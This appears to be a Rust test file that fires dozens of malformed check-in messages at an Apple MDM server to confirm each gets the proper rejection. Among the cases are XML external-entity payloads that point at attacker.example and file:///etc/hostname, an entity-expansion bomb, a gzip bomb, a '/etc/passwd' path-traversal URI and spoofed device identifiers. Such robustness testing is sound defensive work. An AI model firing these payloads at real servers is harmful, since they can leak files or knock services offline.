//! Check-ins that are not as they should be (section 4.1).
//!
//! Owns: how each case of the table is made. All are sent under the certificate of an enrolled device, unless the case
//! is about another.

use axum::http::Method;
use pomona_engine::EnrollmentId;

use crate::support::{self, Card, TOPIC, authenticate, simple_check_in, token_update};
use crate::world::{CHECK_IN, Run, Score, Shot, World, check_in, data, dict, table, text};

const DOCTYPE: &str = "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">";
const SHARED_USER: &str = "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF";

/// The devices of this section.
struct Cast {
    world: World,
    udid: String,
    card: Card,
    other_udid: String,
    /// A Mac with a user.
    mac: (String, Card, EnrollmentId),
    left: (String, Card),
    unused: Card,
}

#[tokio::test]
async fn every_bad_check_in_gets_its_answer() {
    let cast = Cast::new().await;
    let mut score = Score::new("4.1");
    for line in table("4.1") {
        let run = cast.play(line.name).await;
        score.add(&line, cast.world.judge(&line, run).await);
    }
    score.finish(75);
}

impl Cast {
    async fn new() -> Self {
        let world = World::new().await;
        let (udid, card, _) = world.device().await;
        let (other_udid, _, _) = world.device().await;
        let mac = world.device().await;
        let user = check_in("TokenUpdate", &mac.0, &user_tokens("U-1", "aa"));
        world.pass(&world.shot(&mac.1, CHECK_IN, user), 200).await;
        let gone = world.device().await;
        let bye = simple_check_in("CheckOut", &gone.0);
        world.pass(&world.shot(&gone.1, CHECK_IN, bye), 200).await;
        let unused = world.stage.card("link", None, None).await;
        Self {
            udid,
            card,
            other_udid,
            mac,
            left: (gone.0, gone.1),
            unused,
            world,
        }
    }

    fn shot(&self, body: impl Into<Vec<u8>>) -> Shot {
        self.world.shot(&self.card, CHECK_IN, body)
    }

    /// The good message that most cases are a variation of.
    fn good(&self) -> String {
        token_update(&self.udid, "02")
    }

    /// The good message with one replacement, which must hit.
    fn edit(&self, from: &str, to: &str) -> Vec<u8> {
        let good = self.good();
        assert!(good.contains(from), "nothing to replace: {from}");
        good.replacen(from, to, 1).into_bytes()
    }

    /// The good message with something more in its dictionary.
    fn with(&self, inner: &str) -> Vec<u8> {
        self.edit("</dict>", &format!("{inner}</dict>"))
    }

    fn message(&self, kind: &str, inner: &str) -> Vec<u8> {
        check_in(kind, &self.udid, inner)
    }

    /// A message of each type, as this device would send it.
    fn each(&self) -> [(&'static str, Vec<u8>); 9] {
        let m = |kind, inner: &str| (kind, self.message(kind, inner));
        [
            ("Authenticate", authenticate(&self.udid).into_bytes()),
            ("TokenUpdate", self.good().into_bytes()),
            m("CheckOut", ""),
            m("SetBootstrapToken", &data("BootstrapToken", b"token")),
            m("GetBootstrapToken", ""),
            m("GetToken", &text("TokenServiceType", "com.apple.maid")),
            m("DeclarativeManagement", &text("Endpoint", "tokens")),
            m("ReturnToService", ""),
            (
                "UserAuthenticate",
                check_in("UserAuthenticate", &self.udid, &text("UserID", "U-1")),
            ),
        ]
    }

    async fn play(&self, name: &str) -> Run {
        let shots = match self.special(name) {
            Some(shots) => shots,
            None => vec![self.shot(self.body(name))],
        };
        self.world.fire(shots).await
    }

    /// Cases that are more than a body under the device's own certificate.
    fn special(&self, name: &str) -> Option<Vec<Shot>> {
        if let Some(kind) = name.strip_prefix("truncation sweep of ") {
            let (_, whole) = self.each().into_iter().find(|(known, _)| *known == kind)?;
            return Some(
                (0..whole.len())
                    .map(|cut| self.shot(&whole[..cut]))
                    .collect(),
            );
        }
        let shot = |card: &Card, body: Vec<u8>| self.world.shot(card, CHECK_IN, body);
        let good = || self.shot(self.good());
        let (mac, mac_card, _) = &self.mac;
        Some(vec![match name {
            "TokenUpdate before Authenticate" => {
                shot(&self.unused, token_update("UNUSED-1", "01").into_bytes())
            }
            "TokenUpdate after CheckOut" => {
                shot(&self.left.1, token_update(&self.left.0, "07").into_bytes())
            }
            "Authenticate after CheckOut" => {
                shot(&self.left.1, authenticate(&self.left.0).into_bytes())
            }
            "GetBootstrapToken after CheckOut" => shot(
                &self.left.1,
                check_in("GetBootstrapToken", &self.left.0, ""),
            ),
            "GetBootstrapToken on the user channel" => shot(
                mac_card,
                check_in("GetBootstrapToken", mac, &text("UserID", "U-1")),
            ),
            "SetBootstrapToken on the user channel" => shot(
                mac_card,
                check_in("SetBootstrapToken", mac, &text("UserID", "U-1")),
            ),
            "UnlockToken on the user channel" => {
                let inner = format!(
                    "{}{}",
                    user_tokens("U-1", "ab"),
                    data("UnlockToken", b"secret")
                );
                shot(mac_card, check_in("TokenUpdate", mac, &inner))
            }
            "UserID without a TokenUpdate before" => {
                let inner = text("UserID", "U-2") + &text("Endpoint", "tokens");
                shot(mac_card, check_in("DeclarativeManagement", mac, &inner))
            }
            "user of one device on another" => {
                let inner = text("UserID", "U-1") + &text("Endpoint", "tokens");
                self.shot(self.message("DeclarativeManagement", &inner))
            }
            "short name ../x" => {
                let inner = shared_tokens("../x");
                self.shot(self.message("TokenUpdate", &inner))
            }
            "certificate of another tenant" => {
                self.world
                    .shot_in(self.world.other, &self.card, CHECK_IN, self.good())
            }
            "tenant that does not exist" => {
                let nobody = pomona_engine::TenantId(uuid::Uuid::from_u128(77));
                self.world
                    .shot_in(nobody, &self.card, CHECK_IN, self.good())
            }
            "tenant that is no id" => Shot {
                uri: "/mdm/../../etc/passwd".into(),
                ..good()
            },
            "tenant with broken escapes" => Shot {
                uri: "/mdm/%ff%fe".into(),
                ..good()
            },
            "JSON content type" => good().header("content-type", "application/json"),
            "content type missing" => {
                let mut shot = good();
                shot.headers.retain(|(name, _)| *name != "content-type");
                shot
            }
            "content type of a report" => {
                good().header("content-type", "application/x-apple-aspen-mdm")
            }
            "content type in capitals with a charset" => {
                self.shot(token_update(&self.udid, "b2")).header(
                    "content-type",
                    "Application/X-Apple-Aspen-MDM-CheckIn; charset=UTF-8",
                )
            }
            "gzip bomb" => {
                let mut shot = self.shot(gzip_of_zeros());
                shot.headers.push(("content-encoding", b"gzip".to_vec()));
                shot
            }
            "both length headers" => good()
                .header("content-length", self.good().len().to_string())
                .header("transfer-encoding", "chunked"),
            "GET instead of PUT" => good().method(Method::GET),
            "POST instead of PUT" => good().method(Method::POST),
            "DELETE instead of PUT" => good().method(Method::DELETE),
            "method of our own making" => good().method(Method::from_bytes(b"CHECKIN").unwrap()),
            "announced 7 MiB" => good().header("content-length", (7 << 20).to_string()),
            _ => return None,
        }])
    }

    fn body(&self, name: &str) -> Vec<u8> {
        let key = |inner: &str| self.with(&format!("<key>A</key>{inner}"));
        let udid = |value: &str| {
            self.edit(
                &format!("<string>{}</string>", self.udid),
                &format!("<string>{value}</string>"),
            )
        };
        let prolog = |doctype: &str| self.edit(DOCTYPE, doctype);
        let udid_key = text("UDID", &self.udid);
        let type_key = text("MessageType", "TokenUpdate");
        let other = &self.other_udid;
        match name {
            // framing and encoding
            "empty body" => Vec::new(),
            "one zero byte" => vec![0],
            "UTF-16 plist" => [0xFF, 0xFE]
                .into_iter()
                .chain(self.good().encode_utf16().flat_map(u16::to_le_bytes))
                .collect(),
            "declared Latin-1 with high bytes" => latin1(&authenticate(&self.udid)),
            "broken UTF-8 in DeviceName" => broken_name(&authenticate(&self.udid)),
            "two plists in a row" => self.good().repeat(2).into_bytes(),
            "text after the end tag" => (self.good() + "x").into_bytes(),
            "gzip without saying so" => gzip_of_zeros(),
            "form fields" => b"MessageType=TokenUpdate&UDID=1".to_vec(),
            "byte-order mark then a good plist" => ["\u{feff}", &token_update(&self.udid, "b0")]
                .concat()
                .into_bytes(),
            // the root and its type
            "root array" => b"<plist><array/></plist>".to_vec(),
            "root string" => b"<plist><string>TokenUpdate</string></plist>".to_vec(),
            "empty dict" => dict(""),
            "no MessageType" => self.edit(&type_key, ""),
            "MessageType an integer" => {
                self.edit(&type_key, "<key>MessageType</key><integer>1</integer>")
            }
            "unknown MessageType" => self.edit(">TokenUpdate<", ">Authorize<"),
            "MessageType in lower case" => self.edit(">TokenUpdate<", ">tokenupdate<"),
            "MessageType twice with different values" => {
                self.with(&text("MessageType", "CheckOut"))
            }
            // structure
            "UDID twice" => self.with(&text("UDID", other)),
            "UDID twice, once with a reference" => {
                self.with(&format!("<key>&#85;DID</key><string>{other}</string>"))
            }
            "key without value" => self.with("<key>A</key>"),
            "value without key" => self.with("<true/>"),
            "10,000 nested arrays under an unknown key" => key(&nested("array", 10_000, "")),
            "200,000 nested dicts" => key(&nested("dict", 200_000, "<key>a</key>")),
            "a dict of 150,000 keys" => self.with(&many_keys(150_000)),
            "a dict of a million keys" => self.with(&many_keys(1_000_000)),
            "80,000 attributes on one tag" => self.edit("<dict>", &attributes("a", 80_000)),
            "100,000 namespace declarations" => {
                self.edit("<dict>", &attributes("xmlns:n", 100_000))
            }
            // entities and other prolog
            "internal entity chain" => prolog(&entity_chain()),
            "external entity to a file" => {
                prolog("<!DOCTYPE plist [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>")
            }
            "external entity to a URL" => {
                prolog("<!DOCTYPE plist [<!ENTITY x SYSTEM \"http://attacker.example/\">]>")
            }
            "parameter-entity DTD" => prolog(
                "<!DOCTYPE plist [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]>",
            ),
            "stylesheet instruction" => {
                self.edit("<plist", "<?xml-stylesheet href=\"a.xsl\"?><plist")
            }
            "unclosed CDATA" => key("<string><![CDATA[a"),
            "comment of 900 KB inside a string" => {
                key(&format!("<string><!--{}--></string>", "x".repeat(900_000)))
            }
            "integer 2^64" => key("<integer>18446744073709551616</integer>"),
            // values
            "NaN real" => key("<real>NaN</real>"),
            "date with month 13" => key("<date>2026-13-01T00:00:00Z</date>"),
            "data that is not base64" => key("<data>not base64!</data>"),
            "binary plist, valid" => BINARY.to_vec(),
            "binary DAG bomb" => [&b"bplist00"[..], &[0xA2, 1, 1].repeat(43)].concat(),
            "binary self-reference" => b"bplist00\xA1\x00\x08".to_vec(),
            "binary claiming 2^40 objects" => {
                b"bplist00\x00\x00\x00\x00\x00\x00\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00"
                    .to_vec()
            }
            // identifiers
            "UDID empty" => udid(""),
            "UDID of 10 KiB" => udid(&"A".repeat(10 << 10)),
            "UDID containing a colon" => udid("A:B"),
            "UDID with NUL" => udid("A\0"),
            "UDID with newline and escape codes" => udid("A\n\u{1b}[2J"),
            "both UDID and EnrollmentID" => self.with(&text("EnrollmentID", "E-1")),
            "neither UDID nor EnrollmentID" => self.edit(&udid_key, ""),
            "all-F UserID without short name" => self.with(&text("UserID", SHARED_USER)),
            "Token of 0 bytes" => self.edit(&data("Token", &[2]), &data("Token", b"")),
            "PushMagic missing" => self.edit("<key>PushMagic</key>", "<key>Other</key>"),
            "Topic missing" => self.edit("<key>Topic</key>", "<key>Other</key>"),
            // who may
            "UDID of another enrolled device" => udid(other),
            "lower-case form of another's UDID" => udid(&other.to_ascii_lowercase()),
            "own UDID in lower case" => udid(&self.udid.to_ascii_lowercase()),
            "EnrollmentID on a device enrollment" => {
                self.edit("<key>UDID</key>", "<key>EnrollmentID</key>")
            }
            "UDID of nobody" => udid("00000000-NOBODY"),
            "Authenticate for another enrolled device" => authenticate(other).into_bytes(),
            "CheckOut for another enrolled device" => {
                simple_check_in("CheckOut", other).into_bytes()
            }
            "foreign Topic" => self.edit(TOPIC, "com.apple.mgmt.External.other"),
            "Authenticate on the user channel" => {
                self.message("Authenticate", &text("UserID", "U-1"))
            }
            "UserAuthenticate on the device channel" => self.message("UserAuthenticate", ""),
            // sizes and services
            "SetBootstrapToken of 10 MiB" => self.message(
                "SetBootstrapToken",
                &data("BootstrapToken", &vec![7; 10 << 20]),
            ),
            "SetBootstrapToken of 2 MiB" => self.message(
                "SetBootstrapToken",
                &data("BootstrapToken", &vec![7; 2 << 20]),
            ),
            "unknown TokenServiceType" => {
                self.message("GetToken", &text("TokenServiceType", "com.example"))
            }
            "GetToken that nobody answers" => {
                self.message("GetToken", &text("TokenServiceType", "com.apple.maid"))
            }
            "unknown endpoint" => self.message("DeclarativeManagement", &text("Endpoint", "items")),
            "endpoint with dot segments" => self.message(
                "DeclarativeManagement",
                &text("Endpoint", "declaration/asset/.."),
            ),
            "declaration that does not exist" => self.message(
                "DeclarativeManagement",
                &text("Endpoint", "declaration/asset/a"),
            ),
            "status without Data" => {
                self.message("DeclarativeManagement", &text("Endpoint", "status"))
            }
            "status report of 4.2 MiB" => self.message(
                "DeclarativeManagement",
                &(text("Endpoint", "status") + &data("Data", &vec![b' '; 4_400_000])),
            ),
            "ReturnToService that nobody planned" => self.message("ReturnToService", ""),
            "Authenticate again" => authenticate(&self.udid).into_bytes(),
            "unknown extra keys" => support::token_update(&self.udid, "b1")
                .replacen("</dict>", "<key>New</key><array><dict/></array></dict>", 1)
                .into_bytes(),
            other => panic!("the table names a case that nobody makes: {other}"),
        }
    }
}

const BINARY: &[u8] = b"bplist00\xd0\x08\x00\x00\x00\x00\x00\x00\x01\x01\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x09";

/// What a user channel's `TokenUpdate` has beside the usual.
fn user_tokens(user: &str, token: &str) -> String {
    let token = data("Token", &hex::decode(token).unwrap());
    format!(
        "{}{token}{}",
        text("UserID", user),
        text("PushMagic", "magic")
    )
}

fn shared_tokens(short_name: &str) -> String {
    user_tokens(SHARED_USER, "ac") + &text("UserShortName", short_name)
}

fn nested(element: &str, depth: usize, key: &str) -> String {
    let open = format!("<{element}>{key}");
    format!(
        "{}{}",
        open.repeat(depth),
        format!("</{element}>").repeat(depth)
    )
}

fn many_keys(count: usize) -> String {
    (0..count)
        .map(|n| format!("<key>{n}</key><true/>"))
        .collect()
}

fn attributes(name: &str, count: usize) -> String {
    let list: String = (0..count).map(|n| format!(" {name}{n}=\"x\"")).collect();
    format!("<dict{list}>")
}

fn entity_chain() -> String {
    let chain: String = (1..10)
        .map(|level| {
            let before = format!("&e{};", level - 1).repeat(10);
            format!("<!ENTITY e{level} \"{before}\">")
        })
        .collect();
    format!("<!DOCTYPE plist [<!ENTITY e0 \"ha\">{chain}]>")
}

fn named(text: &str, name: &str) -> String {
    text.replacen(
        "</dict>",
        &format!("<key>DeviceName</key><string>{name}</string></dict>"),
        1,
    )
}

fn latin1(text: &str) -> Vec<u8> {
    let text = named(&text.replace("UTF-8", "ISO-8859-1"), "B\u{1}r");
    text.bytes()
        .map(|b| if b == 1 { 0xE4 } else { b })
        .collect()
}

fn broken_name(text: &str) -> Vec<u8> {
    let text = named(text, "B\u{1}r");
    text.bytes()
        .map(|b| if b == 1 { 0xC3 } else { b })
        .collect()
}

/// A stream that promises many zeros: the header and blocks of repetitions.
fn gzip_of_zeros() -> Vec<u8> {
    let mut out = vec![0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3];
    out.extend([0xED, 0xC1, 0x01, 0x01].repeat(2_000));
    out
}
